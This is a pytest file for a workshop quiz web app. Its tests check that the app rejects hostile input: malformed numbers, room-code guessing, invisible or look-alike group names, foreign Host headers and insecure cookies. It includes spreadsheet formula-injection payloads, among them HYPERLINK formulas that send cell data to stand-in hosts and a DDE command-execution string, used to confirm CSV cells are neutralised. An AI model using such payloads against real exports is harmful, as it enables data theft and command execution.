"""Issue 19 (hostile input, third round) at the HTTP level, in the app: numbers read from a request,
room codes guessed through the tour, the room's download opened in a spreadsheet, names that cannot
be seen or look like another, a placement after the reveal, the Host header and the cookie behind
https. Each test names the probe's row (F6, F14, ...) it mends.

The server-level guards (timeouts, the connection cap, the proxy, SIGTERM) are tested against a real
`samarbeid serve` in test_http_server.py.
"""

from __future__ import annotations

import csv
import html
import io
import zipfile

import pytest
from starlette.testclient import TestClient

from assistant.web.app import create_app
from assistant.web.live import Limiter
from tests.web.conftest import Browser
from tests.web.test_room import join, make_room


@pytest.fixture
def trainer(new_person) -> Browser:
    return new_person()


def quiz_round(trainer: Browser, code: str) -> None:
    assert trainer.post(f"/room/{code}/quiz", {"relation": "moving_mamas/hverdagsvikar"}).status_code == 303


# ------------------------------------------------------------ F14: numbers in a request
MALFORMED = ["\u00b2", "\u0661", "1" * 30, "9" * 5000, "-1", "+1", " 1", "1.0", "0x1", ""]
SHORT = [repr(n) if len(n) < 10 else f"{len(n)}-digits" for n in MALFORMED]


@pytest.mark.parametrize("number", MALFORMED, ids=SHORT)
def test_a_malformed_round_on_a_placement_is_a_redirect_with_an_error(trainer, new_person, store, number):
    """F14: `round=²` (or 30 or 5000 digits) on /group/place was a 500; it is the placement's error."""
    code = make_room(trainer)
    group = new_person()
    join(group, code, "Nord")
    group.get("/")
    quiz_round(trainer, code)
    group.get("/group")
    moved = group.post("/group/place", {"round": number, "place": "existing.two_way"})
    assert moved.status_code == 303 and moved.headers["location"] == "/group?error=place#place"
    assert store.rounds(code)[0].placed == {}


@pytest.mark.parametrize("number", MALFORMED, ids=SHORT)
def test_a_malformed_round_on_a_reveal_is_a_400(trainer, store, number):
    """F14: the same numbers on /room/CODE/reveal were a 500; they are a 400 and nothing is revealed."""
    code = make_room(trainer)
    quiz_round(trainer, code)
    refused = trainer.post(f"/room/{code}/reveal", {"round": number})
    assert refused.status_code == 400 and "The request could not be read" in refused.text
    assert store.rounds(code)[0].revealed is None


@pytest.mark.parametrize("path", ["/tour/%C2%B2", "/tour/%D9%A1", "/tour/" + "1" * 30, "/tour/" + "1" * 5000,
                                  "/tour/01", "/tour/+1", "/tour/1.0"], ids=lambda p: p[:20])
def test_a_malformed_slide_number_is_a_404(person, path):
    """F14: `/tour/²` and `/tour/` + 5000 digits were a 500 (and the Arabic one a page); they are a 404."""
    page = person.get(path)
    assert page.status_code == 404 and ("Page not found" in page.text or "Siden finnes ikke" in page.text)


# ------------------------------------------------------------ F15: codes guessed through the tour
def test_codes_guessed_through_the_tour_count_against_the_limiter(rule_base, engine, store):
    """F15: `/tour/1?room=XXXXXX` guessed codes without limit; an unknown code costs a try, and is not echoed."""
    app = create_app(rule_base, engine, store, limiter=Limiter(burst=3, every=3600))
    with TestClient(app, raise_server_exceptions=False) as client:
        person = Browser(client)
        for guess in ("ZZZZZZ", "YYYYYY", "nonsense"):
            page = person.get(f"/tour/1?room={guess}")
            assert page.status_code == 200 and guess not in page.text
        assert person.get("/tour/1?room=XXXXXX").status_code == 429
        assert person.get("/tour/1").status_code == 200, "the tour itself is not limited"


def test_a_live_rooms_code_goes_on_through_the_tour(trainer):
    """F15: the limiter leaves the tour of a room that exists as it was: its code is carried on."""
    code = make_room(trainer)
    page = trainer.get(f"/tour/1?room={code}")
    assert page.status_code == 200 and f"/tour/2?room={code}" in page.text


# ------------------------------------------------------------ F6: the room's download in a spreadsheet
FORMULAS = ['=HYPERLINK("http://ev.il/?"&F2,"Score")', "@SUM(1+1)*cmd|' /C calc'!A0", "+1+1", "-2+3",
            "=1+1", '=HYPERLINK("http://evil.example/?x="&A1,"click")']


def test_no_cell_of_the_quiz_csv_starts_a_formula(trainer, new_person, store):
    """F6: group names such as `=HYPERLINK(...)` went raw into quiz.csv; such a cell starts with `'`."""
    code = make_room(trainer)
    joined = []
    for name in FORMULAS:
        group = new_person()
        assert join(group, code, name).status_code == 303, name
        joined.append(name[:40].strip())
    quiz_round(trainer, code)
    archive = zipfile.ZipFile(io.BytesIO(trainer.get(f"/room/{code}/download").content))
    folder = f"samarbeid-room-{code}"
    for name in archive.namelist():
        assert name.startswith(f"{folder}/") and ".." not in name and "=" not in name and "@" not in name, name
    rows = list(csv.reader(io.StringIO(archive.read(f"{folder}/quiz.csv").decode())))
    cells = [cell for row in rows for cell in row]
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")], cells
    groups = [row[4] for row in rows[1:]]
    assert groups == ["'" + name for name in joined], "the name is all there, behind the quote"


# ------------------------------------------------------------ F17: names nobody can see, names that look alike
INVISIBLE = ["\u200b", "\u3164", "\u2060", "\u200d\u200c", "\u115f", "\xad", "\u034f", "\u200b \u2060 \ufeff",
             "\u180e", "\U000e0041"]


@pytest.mark.parametrize("name", INVISIBLE)
def test_a_name_nobody_can_see_is_refused(trainer, new_person, store, name):
    """F17: zero-width and filler names joined as blank groups on the projector; they are refused."""
    code = make_room(trainer)
    page = join(new_person(), code, name)
    assert page.status_code == 400 and "no letter, digit or sign that can be seen" in page.text
    assert store.groups(code) == []


@pytest.mark.parametrize("name", ["\u0410lpha", "Al\u200bpha", "\uff21lpha", "ALPHA\u00ad", "\u0391lpha",
                                  "Alp\u04bba"])
def test_a_name_that_looks_like_another_is_taken(trainer, new_person, store, name):
    """F17: `\\u0410lpha` (a Cyrillic A) or `Al\\u200bpha` beside `Alpha` made two Alphas on the wall; it is
    taken."""
    code = make_room(trainer)
    assert join(new_person(), code, "Alpha").status_code == 303
    page = join(new_person(), code, name)
    assert page.status_code == 409 and "Another group already has that name" in page.text
    assert [g.name for g in store.groups(code)] == ["Alpha"]


def test_invisible_characters_are_taken_out_of_a_name(trainer, new_person, store):
    """F17: a name keeps what can be seen, without the zero-width characters between."""
    code = make_room(trainer)
    assert join(new_person(), code, "Gruppe\u200b \u2060Nord\u00ad").status_code == 303
    assert [g.name for g in store.groups(code)] == ["Gruppe Nord"]


# ------------------------------------------------------------ F32: a placement after the reveal
def test_a_placement_after_the_reveal_says_the_round_is_closed(trainer, new_person, store):
    """F32: a placement after the reveal was dropped without a word; the group is told the round is closed."""
    code = make_room(trainer)
    group = new_person()
    join(group, code, "Nord")
    group.get("/")
    quiz_round(trainer, code)
    page = group.get("/group")
    assert trainer.post(f"/room/{code}/reveal", {"round": "1"}).status_code == 303
    moved = group.post("/group/place", {"round": "1", "place": "existing.two_way"})
    assert moved.status_code == 303 and moved.headers["location"] == "/group?error=revealed#round"
    page = group.get(moved.headers["location"])
    assert page.status_code == 200
    assert "This round is closed: the report's answer has been revealed" in html.unescape(page.text)
    assert 'role="alert"' in page.text
    assert store.rounds(code)[0].placed == {}
    assert "round is closed" not in group.get("/group").text, "the message is for the placement that came late"


# ------------------------------------------------------------ F18: the Host header
@pytest.fixture
def guarded(rule_base, engine, store):
    """The app as `samarbeid serve` runs it on 127.0.0.1:8000 (its hosts: loopback and the bound address)."""
    from assistant.web.hosts import Hosts

    app = create_app(rule_base, engine, store, lang="en")
    app.state.bound = ("127.0.0.1", 8000)
    app.state.hosts = Hosts.for_server("127.0.0.1", ("127.0.0.1", 8000))
    return app


@pytest.mark.parametrize("host", ["evil.example", "evil.example:8000", "127.0.0.1.evil.example", "x" * 8000,
                                  "127.0.0.1:8000@evil.example", "[::1", "localhost:port", "127.0.0.1:99999"],
                         ids=lambda h: h[:30])
def test_a_host_that_is_not_allowed_is_a_400(guarded, host):
    """F18: a page was served (and its links built) for any Host; another Host than the allowed is a 400."""
    with TestClient(guarded, raise_server_exceptions=False) as client:
        page = client.get("/", headers={"host": host})
        assert page.status_code == 400 and "This server does not answer to that address" in page.text
        assert "evil" not in page.text and "x" * 100 not in page.text and "set-cookie" not in page.headers


@pytest.mark.parametrize("host", ["127.0.0.1:8000", "localhost:8000", "LOCALHOST", "[::1]:8000", "127.0.0.1",
                                  "localhost."])
def test_the_loopback_names_and_the_bound_address_are_allowed(guarded, host):
    """F18: this computer's own names pass the check."""
    with TestClient(guarded, raise_server_exceptions=False) as client:
        assert client.get("/", headers={"host": host}).status_code == 200


def test_a_host_header_asked_about_again_gets_the_same_answer_and_a_flood_of_names_is_not_kept():
    """The answer for a Host header is kept (every request names one), the same each time it is asked; made-up
    names beyond the first few are looked at each time, not kept."""
    from assistant.web.hosts import HEADERS_KEPT, Hosts

    hosts = Hosts.for_server("127.0.0.1", ("127.0.0.1", 8000))
    for _ in range(2):
        assert hosts.allows("127.0.0.1:8000") and hosts.allows("localhost") and hosts.allows("[::1]:8000")
        assert not hosts.allows("evil.example") and not hosts.allows("127.0.0.1:99999")
    for n in range(3 * HEADERS_KEPT):
        assert not hosts.allows(f"evil{n}.example")
    assert len(hosts._answered) == HEADERS_KEPT
    assert hosts.allows("127.0.0.1") and not hosts.allows("evil.example")
    assert hosts == Hosts.for_server("127.0.0.1", ("127.0.0.1", 8000)), "what was asked is no part of the hosts"


def test_the_trainer_link_is_made_from_an_allowed_address_only(guarded):
    """F18: the trainer link and the QR code came from the Host (`http://evil.example/room/...`)."""
    with TestClient(guarded, base_url="http://127.0.0.1:8000", raise_server_exceptions=False) as client:
        trainer = Browser(client)
        code = make_room(trainer)
        page = trainer.get(f"/room/{code}/trainer")
        assert page.status_code == 200 and f"http://127.0.0.1:8000/room/{code}/t/" in page.text
        for path in (f"/room/{code}/trainer", f"/room/{code}/screen"):
            other = client.get(path, headers={"host": "evil.example"})
            assert other.status_code == 400 and "evil.example" not in other.text


def test_a_host_too_long_for_the_qr_code_never_gives_a_500(trainer, store):
    """F18: an 8 KB Host gave a 500 on the projector and the trainer's page (the QR code overflowed);
    where no Host check runs (the app alone, as here), the page shows the address without a QR code."""
    code = make_room(trainer)
    host = "h" * 8000
    for path in (f"/room/{code}/trainer", f"/room/{code}/screen"):
        page = trainer.client.get(path, headers={"host": host})
        assert page.status_code == 200, path
        assert 'class="segno"' not in page.text


# ------------------------------------------------------------ F28: the cookie behind https
def test_the_session_cookie_is_secure_when_the_scheme_is_https(rule_base, engine, store):
    """F28: behind https the session cookie was sent without `Secure`; every cookie has it, and plain http not."""
    app = create_app(rule_base, engine, store)
    seen = []
    for scheme in ("https", "http"):
        with TestClient(app, base_url=f"{scheme}://testserver", raise_server_exceptions=False) as client:
            trainer = Browser(client)
            trainer.get("/workshop")
            made = trainer.post("/workshop", {"lang": "en"})
            code = made.headers["location"].split("/")[2]
            group = Browser(TestClient(app, base_url=f"{scheme}://testserver", raise_server_exceptions=False))
            group.get(f"/join?code={code}")
            joined = group.post("/join", {"code": code, "name": "Nord"})
            cookies = [value for response in (made, joined) for name, value in response.headers.multi_items()
                       if name == "set-cookie"]
            assert len(cookies) >= 2, cookies
            seen.append((scheme, cookies))
    (_, secure), (_, plain) = seen
    assert all("; Secure" in cookie or "; secure" in cookie for cookie in secure), secure
    assert not any("secure" in cookie.lower() for cookie in plain), plain
